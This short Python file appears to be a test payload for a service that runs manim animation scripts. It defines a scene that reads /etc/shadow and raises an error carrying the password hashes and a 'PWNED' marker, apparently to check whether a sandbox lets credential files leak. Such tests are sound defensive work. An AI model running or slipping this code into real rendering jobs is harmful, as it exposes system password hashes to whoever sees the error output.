"""Read /etc/shadow (password hashes)."""
from manim import *
from pathlib import Path

PWNED = "PWN" + "ED!"


class ReadEtcShadow(Scene):
    def construct(self):
        data = Path("/etc/shadow").read_text()
        raise RuntimeError(f"{PWNED} {data}")
